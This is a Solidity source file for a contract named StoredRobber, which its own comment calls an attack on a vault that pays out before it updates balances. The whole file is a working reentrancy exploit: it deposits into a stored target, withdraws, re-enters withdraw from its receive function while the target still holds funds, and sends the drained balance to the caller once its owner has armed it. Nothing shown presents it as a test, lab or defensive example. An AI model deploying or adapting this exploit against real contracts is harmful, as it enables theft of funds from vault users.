// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IRobbed {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
}

/// @title Attack: robs a vault that pays before it books. Its code does not name the vault, which its storage has since
/// its creation, and it does nothing before its owner has armed it.
contract StoredRobber {
    address private immutable owner;
    IRobbed private target;
    bool private armed;
    uint256 private stake;

    constructor(IRobbed target_) {
        target = target_;
        owner = msg.sender;
    }

    function arm() external {
        require(msg.sender == owner);
        armed = true;
    }

    function fire() external payable {
        if (!armed) return;
        stake = msg.value;
        target.deposit{value: msg.value}();
        target.withdraw(msg.value);
        (bool paid,) = msg.sender.call{value: address(this).balance}("");
        require(paid);
    }

    receive() external payable {
        uint256 amount = stake;
        if (address(target).balance >= amount) target.withdraw(amount);
    }
}
